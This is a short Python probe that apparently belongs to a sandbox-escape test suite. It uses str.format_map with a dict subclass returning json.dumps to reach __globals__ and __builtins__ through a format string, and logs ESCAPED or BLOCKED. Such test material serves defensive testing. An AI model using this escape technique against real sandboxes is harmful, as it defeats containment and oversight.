# id: fmt-mapping
# technique: format_map asks a mapping of ours, which answers with library functions
# layer: python
# goal: capability
# success_marker: ESCAPED

import json


class M(dict):
    def __missing__(self, k):
        return json.dumps


def attempt(ctx):
    text = '{a.__globals__[__builtins__]}'.format_map(M())
    ctx.log.info('ESCAPED fmt-mapping: ' + text[:60])


def tick(ctx):
    try:
        attempt(ctx)
    except Exception as e:
        ctx.log.info('BLOCKED fmt-mapping: ' + repr(e)[:160])
    ctx.log.info('DONE fmt-mapping')
